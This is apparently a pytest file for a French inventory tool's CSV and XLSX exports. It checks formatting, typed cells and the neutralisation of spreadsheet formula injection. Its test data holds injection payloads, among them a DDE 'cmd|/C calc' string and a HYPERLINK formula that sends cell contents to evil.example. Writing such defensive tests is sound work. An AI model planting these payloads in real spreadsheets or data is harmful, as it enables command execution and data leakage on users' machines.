"""CSV for French Excel and typed XLSX: what the files hold, read back with independent
readers (Python's csv module, openpyxl), and formula injection through an imported
inventory whose names begin with =, +, -, @ (docs/exports.md)."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import sqlite3
import subprocess
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from vigikfield.cli import build_cli
from vigikfield.domain.private import CannotWrite
from vigikfield.domain.store import Store
from vigikfield.exports import csv_fr, writers, xlsx
from vigikfield.exports.errors import ExportError
from vigikfield.exports.table import Column, Sheet

from import_support import write

COLUMNS = (
    Column("name", "text", "replacements.col_residence"),
    Column("insee", "code", "replacements.col_insee"),
    Column("count", "integer", "replacements.col_halls"),
    Column("cost", "money", "replacements.col_total_ht"),
    Column("vat", "percent", "replacements.col_vat"),
    Column("day", "date", "replacements.col_planned"),
)
ROWS = [
    {"name": "Les Mézereaux", "insee": "01053", "count": 1234, "cost": Decimal("1234.56"),
     "vat": Decimal("5.5"), "day": date(2026, 12, 1)},
    {"name": "Plein Ciel", "insee": "77288", "count": 0, "cost": Decimal("-5"),
     "vat": Decimal("20"), "day": "2027-01-04"},
    {"name": None, "insee": None, "count": None, "cost": None, "vat": None, "day": None},
]
FORMULAS = ["=1+1", "+33 1 64 00 00 00", "-2+3", "@SUM(A1)", "\t=cmd|' /C calc'!A0",
            "\r=1+1", "  =HYPERLINK(\"http://x\")", "=\"01053\""]


def _sheet(rows=ROWS, **kw) -> Sheet:
    return Sheet("test", "replacements.halls_title", COLUMNS, list(rows), **kw)


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    text = data[len(codecs.BOM_UTF8):].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _line_ends(data: bytes) -> None:
    """Every line ends with CRLF: no lone LF, no lone CR outside quoted cells."""
    assert data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n")


# --- CSV -----------------------------------------------------------------------------
def test_csv_is_what_french_excel_opens():
    data = csv_fr.to_bytes([_sheet()])
    _line_ends(data)
    header, first, second, empty = _read_csv(data)
    assert header == ["Résidence", "Code INSEE", "Halls à remplacer", "Total HT (€)", "TVA (%)",
                      "Remplacement prévu le"]
    # a code Excel would read as a number keeps its zeros: a protective tab, no formula
    assert first == ["Les Mézereaux", "\t01053", "1234", "1234,56", "5,5", "01/12/2026"]
    # the writer's own numbers are never neutralised, even negative ones
    assert second == ["Plein Ciel", "\t77288", "0", "-5,00", "20", "04/01/2027"]
    assert empty == [""] * 6


def test_csv_headers_say_the_unit_of_money_and_percents():
    columns = (Column("a", "money", "replacements.col_landlord"),
               Column("b", "percent", "replacements.col_halls"))
    data = csv_fr.to_bytes([Sheet("s", "replacements.halls_title", columns, [])])
    assert _read_csv(data)[0] == ["Bailleur (€)", "Halls à remplacer (%)"]


@pytest.mark.parametrize("value", FORMULAS)
@pytest.mark.parametrize("kind", ["text", "code"])
def test_csv_neutralises_formula_starts_in_text_and_code_cells(value, kind):
    column = Column("v", kind, "replacements.col_residence")
    data = csv_fr.to_bytes([Sheet("s", "replacements.halls_title", (column,), [{"v": value}])])
    assert _read_csv(data)[1] == ["'" + value]


LOOK_NUMERIC = ["01053", "77288", "1234E56", "1/2", "12:30", "3,5", "20 %", "5 €", "1-2"]
LOOK_TEXT = ["2A004", "NSJ3MQX", "12 rue de Paris", "Bât. 1 — entrée 2"]


@pytest.mark.parametrize("value", LOOK_NUMERIC + LOOK_TEXT)
def test_csv_protects_exactly_the_cells_a_spreadsheet_would_convert(value):
    column = Column("v", "code", "replacements.col_code")
    data = csv_fr.to_bytes([Sheet("s", "replacements.halls_title", (column,), [{"v": value}])])
    assert _read_csv(data)[1] == [("\t" if value in LOOK_NUMERIC else "") + value]


def test_csv_separators_quotes_and_line_breaks_stay_in_their_cell():
    value = 'a;b "c"\r\nd'
    data = csv_fr.to_bytes([_sheet([{"name": value}])])
    assert _read_csv(data)[1][0] == value


def test_csv_several_sheets_are_blocks_with_their_title():
    other = Sheet("other", "replacements.summary_title", (COLUMNS[0],), [{"name": "X"}])
    rows = _read_csv(csv_fr.to_bytes([_sheet(ROWS[:1]), other]))
    assert rows[0] == ["Halls à remplacer"]
    assert rows[1][0] == "Résidence" and rows[2][0] == "Les Mézereaux"
    assert rows[3] == []
    assert rows[4:] == [["Remplacements par bailleur"], ["Résidence"], ["X"]]


def test_csv_of_a_confidential_sheet_says_so_first():
    rows = _read_csv(csv_fr.to_bytes([_sheet(ROWS[:1], confidential=True)]))
    assert rows[0] == ["CONFIDENTIEL — police, justice, bailleurs"]
    assert rows[1][0] == "Résidence"


def test_csv_numbers_are_french_whatever_the_language():
    from vigikfield import i18n

    i18n.set_language("en")
    rows = _read_csv(csv_fr.to_bytes([_sheet(ROWS[:1])]))
    assert rows[0][0] == "Residence"
    assert rows[1][3:] == ["1234,56", "5,5", "01/12/2026"]


# --- XLSX ----------------------------------------------------------------------------
def _workbook(sheets, tmp_path: Path) -> openpyxl.Workbook:
    out = tmp_path / "out.xlsx"
    xlsx.write(sheets, out)
    return openpyxl.load_workbook(out)


def test_xlsx_cells_are_typed(tmp_path):
    ws = _workbook([_sheet()], tmp_path).active
    assert [c.value for c in ws[1]] == ["Résidence", "Code INSEE", "Halls à remplacer",
                                        "Total HT (€)", "TVA (%)", "Remplacement prévu le"]
    name, insee, count, cost, vat, day = ws[2]
    assert (name.value, name.data_type) == ("Les Mézereaux", "s")
    assert (insee.value, insee.data_type, insee.number_format) == ("01053", "s", "@")
    assert (count.value, count.data_type, count.number_format) == (1234, "n", "#,##0")
    assert cost.value == pytest.approx(1234.56) and cost.number_format == '#,##0.00 "€"'
    assert vat.value == pytest.approx(0.055) and vat.number_format == "0.0%"
    assert day.is_date and day.value == datetime(2026, 12, 1)
    assert day.number_format == "DD/MM/YYYY"
    assert ws["D3"].value == -5 and ws["F3"].value == datetime(2027, 1, 4)
    assert all(c.value is None for c in ws[4])


def test_xlsx_has_a_frozen_header_an_autofilter_and_sized_columns(tmp_path):
    ws = _workbook([_sheet()], tmp_path).active
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:F4"
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    assert set(widths) == set("ABCDEF")
    assert all(xlsx.MIN_WIDTH <= w <= xlsx.MAX_WIDTH for w in widths.values())
    assert widths["A"] >= len("Les Mézereaux") and widths["F"] >= len("Remplacement prévu le")
    assert ws.print_title_rows == "$1:$1" and ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage


@pytest.mark.parametrize("value", FORMULAS)
def test_xlsx_formula_like_text_is_text(tmp_path, value):
    ws = _workbook([_sheet([{"name": value, "insee": value}])], tmp_path).active
    for cell in ws[2][:2]:
        # XML has no bare carriage return: it becomes the line break Excel uses
        assert cell.data_type == "s" and cell.value == value.replace("\r", "\n")
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_xlsx_sheet_names_are_ones_excel_accepts(tmp_path, monkeypatch):
    from vigikfield import i18n

    catalog = dict(i18n.catalog("fr"))
    catalog["x.long"] = "Halls [à] remplacer : bailleurs/communes * ? \\ et bien plus encore"
    monkeypatch.setattr(i18n, "catalog", lambda lang: catalog)
    sheets = [Sheet(f"s{i}", "x.long", COLUMNS[:1], []) for i in range(3)]
    names = _workbook(sheets, tmp_path).sheetnames
    assert len(set(n.casefold() for n in names)) == 3
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)
    assert names[1].endswith("(2)")


def test_xlsx_one_worksheet_per_sheet_and_confidential_says_so(tmp_path):
    other = Sheet("other", "replacements.summary_title", (COLUMNS[0],), [{"name": "X"}],
                  confidential=True)
    book = _workbook([_sheet(ROWS[:1]), other], tmp_path)
    assert book.sheetnames == ["Halls à remplacer", "CONFIDENTIEL Remplacements par"]
    secret = book.worksheets[1]
    assert secret["A1"].value == "CONFIDENTIEL — police, justice, bailleurs"
    assert secret["A2"].value == "Résidence" and secret["A3"].value == "X"
    assert secret.freeze_panes == "A3" and secret.auto_filter.ref == "A2:A3"


def test_xlsx_control_characters_xml_cannot_hold_do_not_break_the_file(tmp_path):
    ws = _workbook([_sheet([{"name": "Bât\x01A\x0bB"}])], tmp_path).active
    assert ws["A2"].value == "Bât\ufffdA\ufffdB"


def test_xlsx_needs_a_file_and_writes_nothing_without_one(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ExportError) as refused:
        writers.emit([_sheet()], "xlsx", None)
    assert refused.value.exit_code == 2 and "--out" in str(refused.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_a_file_that_cannot_be_written_is_named(tmp_path, fmt):
    target = tmp_path / "no-such-folder" / f"out.{fmt}"
    with pytest.raises(CannotWrite) as refused:
        writers.emit([_sheet()], fmt, target)
    assert str(target) in str(refused.value)
    assert not target.parent.exists()


def test_files_are_written_whole_and_owner_only(tmp_path):
    out = tmp_path / "r.csv"
    writers.emit([_sheet()], "csv", out)
    assert out.read_bytes() == csv_fr.to_bytes([_sheet()])
    assert out.stat().st_mode & 0o077 == 0
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]  # no partial file left


# --- Through an imported inventory ---------------------------------------------------
INJECTED = {
    "landlord": '=HYPERLINK("http://evil.example/?"&A1;"Clic")',
    "residence": "+SUM(1;2)",
    "address": "@cmd rue des Lilas",
    "label": "-2+3",
    "brand": "=Brand",
    "model": "@Model",
}


@pytest.fixture
def injected(tmp_path, cli, db_path):
    """An inventory whose names begin with =, +, -, @ (a tab, a carriage return: the
    importer trims them, so the pilot's own edits put them in), all incompatible."""
    i = INJECTED
    inventory = write(tmp_path / "inventaire.csv", [
        "Bailleur|Commune|Code INSEE|Résidence|Adresse|Entrée|Nb logements|Vigik|Marque|Modèle",
        f'"{i["landlord"].replace(chr(34), chr(34) * 2)}"|Bourg-en-Bresse|1053|"{i["residence"]}"|'
        f'{i["address"]}|{i["label"]}|12|non|{i["brand"]}|{i["model"]}',
        "Habitat 01|Ambérieu-en-Bugey|01004|\t-Les Tabs|1 rue A|A|3|non|x|y",
    ])
    result = cli("import", inventory)
    assert result.exit_code == 0, result.output
    store = Store(db_path)
    hall = store.conn.execute("SELECT id FROM halls WHERE label = 'A'").fetchone()[0]
    store.update("halls", hall, {"label": "\t=cmd|' /C calc'!A0", "brand": "\r=1+1",
                                 "replacement_planned": "2027-01-04"},
                 "reason.landlord_set")
    store.close()
    return db_path


def _stored_texts(db: Path) -> set[str]:
    conn = sqlite3.connect(db)
    try:
        return {v for row in conn.execute(
            "SELECT l.name, r.name, coalesce(h.address, r.address), h.label, h.brand, h.model "
            "FROM halls h JOIN residences r ON r.id = h.residence_id "
            "JOIN landlords l ON l.id = r.landlord_id") for v in row}
    finally:
        conn.close()


def test_imported_formulas_are_neutralised_in_csv(injected, cli, tmp_path):
    stored = _stored_texts(injected)
    assert set(INJECTED.values()) <= stored and "\t=cmd|' /C calc'!A0" in stored
    out = tmp_path / "remplacements.csv"
    result = cli("report", "replacements", "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    _line_ends(data)
    cells = [c for row in _read_csv(data) for c in row]
    for value in stored:
        if value[:1] in "=+-@\t\r":
            assert "'" + value in cells, value
            assert value not in cells, value
    # no cell begins a formula; a tab only ever protects digits (a code)
    assert not [c for c in cells if c and (c[0] in "=+-@\r" or c[0] == "\t" and not c[1:].isdigit())]
    assert "\t01053" in cells and "\t01004" in cells  # INSEE codes keep their zero


def test_imported_formulas_are_text_in_xlsx(injected, cli, tmp_path):
    stored = _stored_texts(injected)
    out = tmp_path / "remplacements.xlsx"
    result = cli("report", "replacements", "--format", "xlsx", "--out", out)
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    halls = book.worksheets[0]
    strings = {}
    for row in halls.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                strings[cell.value] = cell
                assert cell.data_type == "s"
    for value in stored:
        shown = value.replace("\r", "\n")  # XML has no bare carriage return
        assert shown in strings and strings[shown].data_type == "s", value
    assert strings["01053"].data_type == "s" and strings["01004"].number_format == "@"
    assert halls.freeze_panes == "A2" and halls.auto_filter.ref == f"A1:M{halls.max_row}"
    assert halls.max_row == 3  # two halls


def test_xlsx_to_standard_output_is_refused_with_exit_2(injected, cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    result = cli("report", "replacements", "--format", "xlsx")
    assert result.exit_code == 2
    assert "--out" in result.output and "Traceback" not in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == before


# --- Opened by a real spreadsheet ------------------------------------------------------
# LibreOffice Calc reads the CSV as a double click in French would: `;`, UTF-8, French
# locale (1036: decimal comma, day-first dates), special numbers detected, formulas
# evaluated (filter options: https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html).
CALC_CSV_FRENCH = "CSV:59,34,76,1,,1036,false,true,false,false,false,-1,true"


def _open_in_calc(tmp_path: Path, *files: Path, csv_filter: bool = True) -> list[openpyxl.Workbook]:
    """Each file opened in Calc and saved again as XLSX (into calc/), read with openpyxl."""
    out = tmp_path / "calc"
    done = subprocess.run(
        ["soffice", "--headless", *([f"--infilter={CALC_CSV_FRENCH}"] if csv_filter else []),
         "--convert-to", "xlsx", "--outdir", str(out), *map(str, files)],
        env={**os.environ, "HOME": str(tmp_path / "calc-profile")},
        capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return [openpyxl.load_workbook(out / f"{f.stem}.xlsx") for f in files]


def test_calc_opens_the_csv_with_no_formula_zeros_kept_and_typed_numbers(injected, cli, tmp_path):
    ours = tmp_path / "remplacements.csv"
    assert cli("report", "replacements", "--format", "csv", "--out", ours).exit_code == 0
    report = json.loads(cli("report", "replacements", "--json").output)
    control = tmp_path / "control.csv"  # the same kind of values, as a naive writer puts them
    control.write_bytes(codecs.BOM_UTF8 + "a;b;c;d\r\n=1+1;01053;1234E56;1/2\r\n".encode())
    codes = tmp_path / "codes.csv"
    column = Column("v", "code", "replacements.col_code")
    codes.write_bytes(csv_fr.to_bytes([Sheet("s", "replacements.halls_title", (column,),
                                             [{"v": v} for v in LOOK_NUMERIC + LOOK_TEXT])]))
    bare = tmp_path / "bare.csv"  # the same codes unprotected
    bare.write_bytes(codecs.BOM_UTF8 + "v\r\n".encode() + "\r\n".join(LOOK_NUMERIC).encode())
    opened, naive, coded, converted = _open_in_calc(tmp_path, ours, control, codes, bare)
    kept = [(c.value, c.data_type) for (c,) in coded.active.iter_rows(min_row=2)]
    assert [(v.strip(), d) for v, d in kept] == [(v, "s") for v in LOOK_NUMERIC + LOOK_TEXT]
    lost = [(c.value, c.data_type) for (c,) in converted.active.iter_rows(min_row=2)]
    # each one Calc turns into a number, a date or a time ("1-2": Excel makes it a date)
    assert [v for v, (value, kind) in zip(LOOK_NUMERIC, lost) if kind == "s" and value == v] \
        == ["1-2"]
    # the reader is no pushover: unprotected, these become a formula, numbers and a date
    a, b, c, d = naive.active[2]
    assert a.data_type == "f" and (b.value, c.data_type, d.is_date) == (1053, "n", True)
    halls = opened.active
    cells = [c for row in halls.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert halls["A1"].value == "Halls à remplacer"  # two sheets: blocks with their title
    header = [c.value for c in halls[2]]
    insee = header.index("Code INSEE") + 1
    assert sorted(halls.cell(row=r, column=insee).value.strip() for r in (3, 4)) == ["01004", "01053"]
    estimate = header.index("Estimation HT (€)") + 1
    assert sorted(halls.cell(row=r, column=estimate).value for r in (3, 4)) == \
        sorted(float(h["estimate_ht"]) for h in report["halls"])
    planned = header.index("Remplacement prévu le") + 1
    assert [halls.cell(row=r, column=planned).value for r in (3, 4)
            if halls.cell(row=r, column=planned).is_date] == [datetime(2027, 1, 4)]  # day first
    names = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + INJECTED["landlord"] in names and "'" + INJECTED["residence"] in names


def test_calc_keeps_the_xlsx_text_cells_text(injected, cli, tmp_path):
    ours = tmp_path / "ours.xlsx"
    assert cli("report", "replacements", "--format", "xlsx", "--out", ours).exit_code == 0
    [saved] = _open_in_calc(tmp_path, ours, csv_filter=False)
    halls = saved.worksheets[0]
    assert not [c.coordinate for row in halls.iter_rows() for c in row if c.data_type == "f"]
    texts = {c.value for row in halls.iter_rows() for c in row if c.data_type == "s"}
    assert {INJECTED["landlord"], INJECTED["residence"], INJECTED["label"], "01053"} <= texts
    assert saved.worksheets[1].max_row == 4  # header, two landlords, their total


# --- Several reports in one file -------------------------------------------------------
def test_report_all_one_worksheet_per_sheet_of_every_report(injected, cli, tmp_path):
    from vigikfield.commands import report_all
    from vigikfield.i18n import t

    conn = sqlite3.connect(injected)
    try:
        expected = report_all.sheets(conn, date.today())
        scripts = report_all.sheets(conn, date.today(), readable=False)
    finally:
        conn.close()
    assert {"replacements.halls", "replacements.landlords"} <= {s.name for s in expected}
    out = tmp_path / "pilote.xlsx"
    assert cli("report", "all", "--format", "xlsx", "--out", out).exit_code == 0
    book = openpyxl.load_workbook(out)
    assert len(book.sheetnames) == len(expected)
    taken: set[str] = set()
    assert book.sheetnames == [xlsx.sheet_name(t(s.title), taken) for s in expected]
    for ws, sheet in zip(book.worksheets, expected):
        assert ws.max_row == len(sheet.rows) + 1 and ws.freeze_panes == "A2"
    document = json.loads(cli("report", "all", "--json").output)
    assert list(document) == [s.name for s in scripts]
    replacements = json.loads(cli("report", "replacements", "--json").output)
    assert document["replacements.halls"] == replacements["halls"]
    blocks = _read_csv(cli.runner.invoke(build_cli(), ["--db", str(injected), "report", "all",
                                                       "--format", "csv"]).stdout_bytes)
    assert sum(1 for row in blocks if row == []) == len(expected) - 1
    assert cli("report", "all", "--format", "xlsx").exit_code == 2
